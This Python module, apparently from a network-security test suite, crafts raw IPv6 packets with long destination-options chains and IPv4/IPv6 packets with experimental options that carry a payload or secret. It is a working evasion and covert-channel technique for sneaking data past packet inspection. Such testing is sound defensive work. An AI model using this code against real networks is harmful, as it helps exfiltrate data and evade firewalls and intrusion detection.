"""IP packets by raw socket whose headers are long, odd, or carry the value themselves.

`way`: `chain` (IPv6, `length` destination-options headers before UDP with the value), `option4`
(the value in an experimental IPv4 option), `option6` (in an IPv6 destination option).
"""

from __future__ import annotations

import socket

from attacks.frames import ip4, ip6, udp
from attacks.target import Target, refused

DESTINATION_OPTIONS, PADN = 60, 1
EXPERIMENT4, EXPERIMENT6 = 158, 0x1E  # RFC 4727; the receiver skips them
UDP = socket.IPPROTO_UDP


def main(target: Target) -> None:
    """Send one."""
    carrier = udp(target.source, target.address, target.port, b"nothing in here")
    match target.args["way"]:
        case "chain":
            loaded = udp(target.source, target.address, target.port, target.payload)
            length = target.args["length"]
            following = [DESTINATION_OPTIONS] * (length - 1) + [UDP]
            chain = b"".join(bytes([after, 0, PADN, 4, 0, 0, 0, 0]) for after in following)
            packet = ip6(target.source, target.address, DESTINATION_OPTIONS, chain + loaded)
        case "option4":
            value = b" " + target.secret + b" "
            option = bytes([EXPERIMENT4, 2 + len(value)]) + value
            packet = ip4(target.source, target.address, UDP, carrier, options=option)
        case _:
            value = (b" " + target.secret + b" ").ljust(20, b" ")
            head = bytes([UDP, 2, EXPERIMENT6, len(value)]) + value
            packet = ip6(target.source, target.address, DESTINATION_OPTIONS, head + carrier)
    with socket.socket(target.af, socket.SOCK_RAW, socket.IPPROTO_RAW) as out, refused():
        out.sendto(packet, (target.address, 0))
